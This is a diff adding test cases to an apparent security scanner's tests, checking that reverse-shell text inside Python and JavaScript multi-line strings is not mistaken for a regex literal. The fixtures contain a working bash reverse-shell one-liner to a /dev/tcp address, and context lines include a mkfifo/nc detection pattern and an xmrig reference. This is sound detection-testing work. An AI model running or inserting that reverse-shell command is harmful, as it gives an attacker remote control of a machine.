@@ -71,6 +71,12 @@ describe('regular expressions in program files', () => {
     expect(inRegexLiteral('scan.js', js, js.lastIndexOf('bash -i'))).toBe(false);
     const list = 'const SUSPICIOUS = [\n  /mkfifo.*nc\\s/i,\n];\n';
     expect(inRegexLiteral('net.ts', list, list.indexOf('mkfifo'))).toBe(true);
+    // A path inside a multi-line string is no regex literal, in Python or in a JavaScript template.
+    const py2 = "payload = '''\n/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n'''\n";
+    expect(inRegexLiteral('x.py', py2, py2.indexOf('/bin/bash'))).toBe(false);
+    const js2 = 'const cmd = `\n/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`;\n';
+    expect(inRegexLiteral('x.js', js2, js2.indexOf('/bin/bash'))).toBe(false);
+    expect(inRegexLiteral('x.js', js2, js2.indexOf('/dev/tcp'))).toBe(false);
     expect(inRegexLiteral('SKILL.md', py, py.indexOf('xmrig'))).toBe(false);
   });
 });
